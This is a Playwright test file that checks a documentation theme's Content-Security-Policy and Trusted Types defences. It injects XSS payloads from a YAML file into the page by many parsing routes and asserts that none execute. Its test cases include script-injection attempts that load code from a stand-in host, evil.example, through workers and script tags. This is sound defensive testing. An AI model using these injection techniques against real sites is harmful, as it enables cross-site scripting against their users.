"""The policy at work: nothing that the guide does is against it, and nothing that somebody smuggles in gets by it."""

import re
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml
from playwright.sync_api import Page, Route, expect

from tests.browser.conftest import OWN, Visit
from tests.browser.hosting import hosted
from tests.browser.sheets import WHOLE, ready
from tests.conftest import ROOT

Visits = Callable[..., Visit]

PAYLOADS: list[str] = yaml.safe_load((ROOT / "tests" / "payloads.yml").read_text(encoding="utf-8"))
POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
TEXTS_ONLY = "require-trusted-types-for 'script'; trusted-types default rr-parse"
SMUGGLE = """async payloads => {
  window.ran = 0;
  window.bad = () => { window.ran += 1; };
  const place = document.body.appendChild(document.createElement("div"));
  const svg = "http://www.w3.org/2000/svg", math = "http://www.w3.org/1998/Math/MathML";
  const hosts = () => [
    ..."div p table tr select template noscript textarea title".split(" ").map(one => document.createElement(one)),
    ...["svg", "title", "foreignObject"].map(one => document.createElementNS(svg, one)),
    ...["math", "mtext", "annotation-xml"].map(one => document.createElementNS(math, one)),
  ];
  for (const payload of payloads) {
    for (const host of hosts()) {
      host.setAttribute("data-host", "");
      host.innerHTML = payload;
      place.append(host);
      host.insertAdjacentHTML("beforeend", payload);
      host.innerHTML += "x";
      if (host.content) place.append(host.content);
    }
    place.append(document.createRange().createContextualFragment(payload));
    const parsed = new DOMParser().parseFromString(payload, "text/html");
    if (!payload.startsWith("<!doctype")) place.append(...parsed.head.childNodes, ...parsed.body.childNodes);
    const shadow = document.createElement("div").attachShadow({mode: "open"});
    place.append(shadow.host);
    shadow.innerHTML = payload;
  }
  const wait = document.createElement("img");
  const done = new Promise(resolve => wait.onerror = wait.onload = resolve);
  wait.src = "assets/images/icon.svg?last";
  await done;
  addEventListener("click", event => {  // a link that leads somewhere is none that runs
    const goal = event.target.getAttribute("href") ?? event.target.getAttribute("xlink:href") ?? "";
    if (!/^(javascript|data):/.test(new URL(goal, location.href).protocol)) event.preventDefault();
  }, {capture: true});
  for (const link of place.querySelectorAll("a")) link.dispatchEvent(new MouseEvent("click", {cancelable: true}));
  for (const form of place.querySelectorAll("form")) {
    if (form instanceof HTMLFormElement) HTMLFormElement.prototype.submit.call(form);
  }
  await new Promise(resolve => requestAnimationFrame(() => requestAnimationFrame(resolve)));
  return window.ran;
}"""
"""Puts every text into the page by every way that makes HTML of it; returns how many ran.

Whole documents are read as they are, since the theme reads its next page so; none of them is put into the page."""
LEFT = """() => [...document.body.lastElementChild.querySelectorAll(":not([data-host])")].flatMap(one => [
  ...(/^(script|iframe|frame|object|embed|base|meta|link|style|form|input|button|img|video|audio|template|use|animate)$/
    .test(one.localName) ? [one.outerHTML] : []),
  ...[...one.attributes].filter(({name, value}) => /^(on.*|style|src.*|id|name|action|form.*|ping|poster|background)$/
    .test(name) || /href/.test(name) && !/^https?:/.test(new URL(value, location.href))).map(one => one.name),
])"""
"""What is left of them that could do something."""


def altered(visit: Visit, change: Callable[[str], str], scripts: bool = True) -> Page:
    """Open the start page with another policy, or without the script that looks at texts."""

    def answer(route: Route) -> None:
        text = (visit.folder / "index.html").read_text(encoding="utf-8")
        policy = POLICY.search(text)
        assert policy
        route.fulfill(body=text.replace(policy[1], change(policy[1])), content_type="text/html; charset=utf-8")

    visit.page.route(OWN, answer)
    if not scripts:
        visit.page.route("**/trusted-types.js", lambda route: route.fulfill(body="", content_type="text/javascript"))
    return visit.open("")


def forgive(visit: Visit) -> None:
    """End a visit in which something against the policy was to be tried."""
    visit.context.close()
    visit.violations.clear()


def test_no_smuggled_text_runs_loads_or_stays(small_visit: Visit) -> None:
    page = small_visit.open("")
    assert page.evaluate(SMUGGLE, PAYLOADS) == 0
    assert page.evaluate(LEFT) == []
    assert page.url == OWN
    forgive(small_visit)  # what was left out is told as well


def test_the_texts_alone_are_made_harmless_even_where_the_page_may_do_anything(small_visit: Visit) -> None:
    page = altered(small_visit, lambda _: TEXTS_ONLY)
    assert page.evaluate(SMUGGLE, PAYLOADS) == 0
    assert page.evaluate(LEFT) == []


def test_where_a_browser_does_not_look_at_texts_the_rest_of_the_policy_holds(small_visit: Visit) -> None:
    page = altered(small_visit, lambda policy: policy.partition("; require-trusted-types-for")[0], scripts=False)
    leading = [payload for payload in PAYLOADS if "http-equiv=refresh" not in payload]
    assert len(leading) == len(PAYLOADS) - 2
    assert page.evaluate(SMUGGLE, leading) == 0
    assert page.url == OWN
    assert small_visit.violations
    forgive(small_visit)


@pytest.mark.parametrize(
    "code",
    [
        "setTimeout('bad()')",
        "setTimeout(() => { try { eval('bad()') } catch { window.refused = true } })",
        "setTimeout(() => { try { new Function('bad()') } catch { window.refused = true } })",
        "new Worker('https://evil.example/x.js')",
        "new Worker('data:text/javascript,1')",
        "new Worker(URL.createObjectURL(new Blob(['1'])))",
        "new Worker('assets/javascripts/x.js?bad')",
        "document.createElement('script').src = '//evil.example/x.js'",
        "document.createElement('script').setAttribute('src', 'search/search_index.json')",
        "document.createElement('iframe').srcdoc = new Proxy({}, {})",
        "document.body.append(Object.assign(document.createElement('script'), {text: 'window.bad()'}))",
    ],
)
def test_no_text_becomes_a_script(small_visit: Visit, code: str) -> None:
    page = small_visit.open("")
    outcome = page.evaluate(f"""async () => {{
      window.bad = () => window.ran = true;
      try {{ {code} }} catch {{ window.refused = true }}
      await new Promise(resolve => setTimeout(resolve));
      return [window.ran, window.refused];
    }}""")
    assert outcome[0] is None
    forgive(small_visit)


SEEN_TERM = ".md-typeset mark"


def test_search_its_worker_and_the_dark_colours_keep_to_the_headers(visits: Visits, site: Path) -> None:
    with hosted(site) as host:
        visit = visits(site, own=host.address, viewport={"width": 1280, "height": 900})
        page = visit.open("")
        page.keyboard.press("/")
        page.get_by_role("textbox", name="Search").press_sequentially("pause plan")
        page.locator(".md-search-result__link[href*='pause-plan']").first.click()
        expect(page.locator(SEEN_TERM).first).to_be_visible()
        page.get_by_title("Switch to the dark colours").click()
        expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
        ready(page)
        page.locator("textarea").first.fill("kq")
        page.goto(f"{host.address}nowhere/")
        expect(page.locator("h1")).to_have_text("This page is not here")
        assert visit.errors == ["Failed to load resource: the server responded with a status of 404 (Not Found)"]


GO = """href => {
  const link = document.createElement("a");
  link.href = href;
  link.textContent = "go";
  document.querySelector(".rr-page").append(link);
  link.click();
}"""


def test_going_from_page_to_page_without_a_reload_breaks_no_policy(visit: Visit) -> None:
    """One page of each kind, as the theme puts it into the page before; `visits` looks for violations."""
    kinds = {type(place.page): place.address for place in WHOLE.places.values()}
    page = visit.open("")
    page.evaluate("window.loaded = 'once'")
    for address in kinds.values():
        page.evaluate(GO, OWN + address)
        page.wait_for_url(OWN + address)
        page.wait_for_function("() => !document.querySelector('[data-md-component=progress]:not([hidden])')")
        expect(page.locator("h1")).to_be_visible()
    assert page.evaluate("window.loaded") == "once"
    assert len(kinds) > 12
